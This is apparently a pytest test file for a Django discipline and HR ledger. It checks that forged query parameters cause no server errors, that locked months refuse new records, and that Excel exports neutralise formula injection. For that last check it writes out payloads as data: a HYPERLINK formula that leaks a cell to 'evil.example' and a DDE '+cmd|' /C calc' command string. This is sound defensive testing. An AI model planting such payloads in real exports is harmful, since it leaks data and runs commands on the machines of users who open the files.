"""What the probe of the demo found in the ledger: far months and forged numbers get
words not server errors, nothing is written into a locked month, an inspector never plans
an inspection of their own unit, and no exported cell runs as a formula."""

from datetime import date
from io import BytesIO

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse

from discipline import services
from discipline.models import (
    DisciplineDecision,
    DossierMonthlyCount,
    Inspection,
    Violation,
    ViolationStatus,
)
from discipline.resources import DossierMonthlyCountResource
from evaluation.models import Period, PeriodState
from hrsystem.spreadsheets import FORMULA_STARTS
from tests.evaluation.cycle import load_rule_sets
from tests.factories import PeriodFactory, UnitFactory

LIST_PAGES = [
    "inspection_list",
    "violation_list",
    "my_violations",
    "contested_list",
    "decision_list",
    "desk",
    "timeliness",
    "timeliness_pdf",
    "timeliness_xlsx",
    "complaint_list",
    "suggestion_list",
    "survey_dashboard",
    "commitment_board",
    "report_dashboard",
    "report_xlsx",
]
HOSTILE_QUERIES = [
    {"month": "9999-12"},
    {"month": "0001-01"},
    {"month": "２０２６-03"},
    {"year": "99999"},
    {"year": "٢٠٢٦"},
    {"year": "2026", "month": "9999-12"},
    {"page": "99999999999999999999"},
    {"unit": "²"},
]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("username", ["to_chuc", "kiem", "mot_cua", "truong_tn", "an"])
def test_it_answers_far_months_and_forged_numbers_on_every_ledger_page(d, client, username):
    client.force_login(getattr(d, username).user)
    for name in LIST_PAGES:
        for query in HOSTILE_QUERIES:
            response = client.get(reverse(f"discipline:{name}"), query)
            assert response.status_code < 500, (name, query)


@pytest.fixture
def locked_february(d):
    """February 2026 of the agency, opened, run and locked (its state set directly)."""
    load_rule_sets()
    period = PeriodFactory(organisation=d.org, year=2026, number=2, by=d.to_chuc.user)
    Period.objects.filter(pk=period.pk).update(state=PeriodState.LOCKED)
    return period


def test_it_refuses_a_conduct_breach_dated_in_a_locked_month(d, locked_february):
    with pytest.raises(ValidationError) as error:
        services.violation_record(
            item=d.item["ruou_bia_gio_lam_viec"],
            employee=d.an,
            occurred_on=date(2026, 2, 12),
            note="",
            by=d.truong_tn.user,
        )
    assert "Tháng 2/2026" in " ".join(error.value.message_dict["occurred_on"])
    assert not Violation.objects.exists()
    services.violation_record(
        item=d.item["ruou_bia_gio_lam_viec"],
        employee=d.an,
        occurred_on=date(2026, 3, 2),
        note="",
        by=d.truong_tn.user,
    )
    assert Violation.objects.count() == 1


def test_it_accepts_the_month_again_once_it_is_reopened(d, locked_february):
    Period.objects.filter(pk=locked_february.pk).update(state=PeriodState.PUBLISHED)
    services.violation_record(
        item=d.item["ruou_bia_gio_lam_viec"], employee=d.an, occurred_on=date(2026, 2, 12), note=""
    )
    assert Violation.objects.count() == 1


def test_it_refuses_a_dossier_settled_in_a_locked_month(d, locked_february):
    values = dict(
        unit=d.mc,
        citizen_name="Nguyễn Thị Dân",
        officer=d.thu,
        received_on=date(2026, 2, 2),
        due_on=date(2026, 2, 9),
    )
    with pytest.raises(ValidationError) as error:
        services.dossier_record(code="HS-1", settled_on=date(2026, 2, 20), **values)
    assert "settled_on" in error.value.message_dict
    pending = services.dossier_record(code="HS-2", **values)
    with pytest.raises(ValidationError) as error:
        services.dossier_settle(dossier=pending, settled_on=date(2026, 2, 27))
    assert "settled_on" in error.value.message_dict
    services.dossier_settle(dossier=pending, settled_on=date(2026, 3, 2))
    with pytest.raises(ValidationError) as error:
        services.dossier_count_record(unit=d.mc, year=2026, month=2, on_time=4, late=1)
    assert "month" in error.value.message_dict
    assert not DossierMonthlyCount.objects.exists()


def test_it_refuses_to_excuse_a_late_dossier_of_a_locked_month(d):
    late = services.dossier_record(
        unit=d.mc,
        code="HS-1",
        citizen_name="Nguyễn Thị Dân",
        officer=d.thu,
        received_on=date(2026, 2, 2),
        due_on=date(2026, 2, 9),
        settled_on=date(2026, 2, 20),
    )
    load_rule_sets()
    period = PeriodFactory(organisation=d.org, year=2026, number=2, by=d.to_chuc.user)
    Period.objects.filter(pk=period.pk).update(state=PeriodState.LOCKED)
    with pytest.raises(ValidationError) as error:
        services.dossier_excuse(dossier=late, reason="Mất điện cả tuần", by=d.truong_vp.user)
    assert "dossier" in error.value.message_dict
    late.refresh_from_db()
    assert not late.excused


def _contested_in_february(d):
    """A breach of 12/2/2026 recorded and contested before February is locked."""
    violation = services.violation_record(
        item=d.item["ruou_bia_gio_lam_viec"],
        employee=d.an,
        occurred_on=date(2026, 2, 12),
        note="",
        by=d.truong_tn.user,
    )
    return services.violation_contest(violation=violation, reason="Nhầm người", by=d.an.user)


def test_it_refuses_to_annul_a_violation_of_a_locked_month(d, locked_february, client):
    Period.objects.filter(pk=locked_february.pk).update(state=PeriodState.PUBLISHED)
    contested = _contested_in_february(d)
    Period.objects.filter(pk=locked_february.pk).update(state=PeriodState.LOCKED)
    with pytest.raises(ValidationError) as error:
        services.violation_decide(
            violation=contested, uphold=False, reason="Nhầm người", by=d.to_chuc.user
        )
    assert "Tháng 2/2026" in " ".join(error.value.message_dict["uphold"])
    contested.refresh_from_db()
    assert contested.status == ViolationStatus.CONTESTED
    assert contested.history.count() == 2  # recorded, contested: nothing more
    client.force_login(d.to_chuc.user)
    url = reverse("discipline:violation_detail", args=[contested.pk])
    response = client.post(url, {"action": "decide", "outcome": "annul", "reason": "Nhầm"})
    assert response.status_code == 400
    assert "Tháng 2/2026" in response.content.decode()
    contested.refresh_from_db()
    assert contested.status == ViolationStatus.CONTESTED


def test_it_upholds_a_violation_of_a_locked_month(d, locked_february):
    """Upholding leaves the violation counted as it was when the month was locked."""
    Period.objects.filter(pk=locked_february.pk).update(state=PeriodState.PUBLISHED)
    contested = _contested_in_february(d)
    Period.objects.filter(pk=locked_february.pk).update(state=PeriodState.LOCKED)
    upheld = services.violation_decide(
        violation=contested, uphold=True, reason="Có biên bản", by=d.to_chuc.user
    )
    assert upheld.status == ViolationStatus.UPHELD


def test_it_annuls_it_once_the_month_is_reopened(d, locked_february):
    Period.objects.filter(pk=locked_february.pk).update(state=PeriodState.PUBLISHED)
    contested = _contested_in_february(d)
    annulled = services.violation_decide(
        violation=contested, uphold=False, reason="Nhầm người", by=d.to_chuc.user
    )
    assert annulled.status == ViolationStatus.ANNULLED


def _decision(d, day, **kwargs):
    return services.discipline_decide(
        employee=d.an,
        number="15/QĐ-UBND",
        decided_on=day,
        signer_name="Trần Văn Quang",
        signer_title="Chủ tịch UBND huyện",
        form=d.form["khien_trach"],
        legal_basis="Nghị định số 112/2020/NĐ-CP",
        effect_from=day,
        by=d.to_chuc.user,
        **kwargs,
    )


def test_it_refuses_a_decision_taking_effect_in_a_locked_month(d, locked_february):
    with pytest.raises(ValidationError) as error:
        _decision(d, date(2026, 2, 20))
    assert "Tháng 2/2026" in " ".join(error.value.message_dict["effect_from"])
    assert not DisciplineDecision.objects.exists()
    _decision(d, date(2026, 3, 2))
    assert DisciplineDecision.objects.count() == 1


def test_it_accepts_a_decision_of_a_reopened_month(d, locked_february):
    Period.objects.filter(pk=locked_february.pk).update(state=PeriodState.PUBLISHED)
    assert _decision(d, date(2026, 2, 20)).effect_from == date(2026, 2, 20)


def test_it_refuses_an_inspector_planning_an_inspection_of_their_own_unit(d, client):
    with pytest.raises(PermissionDenied):
        services.inspection_plan(
            organisation=d.org,
            title="Kiểm tra phòng mình",
            kind="regular",
            planned_on=d.today,
            scope=[d.nv],
            head=d.truong_nv,
            by=d.kiem.user,
        )
    assert not Inspection.objects.exists()
    client.force_login(d.kiem.user)
    page = client.get(reverse("discipline:inspection_plan")).content.decode()
    assert "Phòng Tài nguyên và Môi trường (TN)" in page
    assert "Phòng Nội vụ (NV)" not in page


def _cells(response):
    book = openpyxl.load_workbook(BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert(cells, text):
    assert [cell for cell in cells if cell.data_type == "f"] == []
    strings = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [value for value in strings if value.startswith(FORMULA_STARTS)]
    assert "'" + text in strings


def test_it_writes_a_formula_typed_as_a_name_as_text_in_every_workbook(d, client):
    services.dossier_record(
        unit=d.mc,
        code="HS-1",
        citizen_name=FORMULA,
        officer=d.thu,
        received_on=date(2026, 3, 2),
        due_on=date(2026, 3, 9),
        settled_on=date(2026, 3, 12),
    )
    services.discipline_decide(
        employee=d.an,
        number="15/QĐ-UBND",
        decided_on=date(2026, 3, 10),
        signer_name=FORMULA,
        signer_title="@SUM(1+1)",
        form=d.form["khien_trach"],
        legal_basis="+cmd|' /C calc'!A0",
        effect_from=date(2026, 3, 10),
        effect_to=date(2027, 3, 9),
    )
    client.force_login(d.to_chuc.user)
    timeliness = client.get(reverse("discipline:timeliness_xlsx"), {"month": "2026-03"})
    _assert_inert(_cells(timeliness), FORMULA)
    report = _cells(client.get(reverse("discipline:report_xlsx"), {"year": 2026}))
    _assert_inert(report, FORMULA)
    assert "'+cmd|' /C calc'!A0" in [cell.value for cell in report]


def test_it_exports_a_unit_named_like_a_formula_as_text(d):
    unit = UnitFactory(parent=d.vp, code="XA", name="-2+3")
    services.dossier_count_record(unit=unit, year=2026, month=3, on_time=4, late=1)
    dataset = DossierMonthlyCountResource().export()
    assert "'-2+3" in dataset["ten_don_vi"]
    assert not [value for row in dataset for value in row if str(value).startswith(FORMULA_STARTS)]
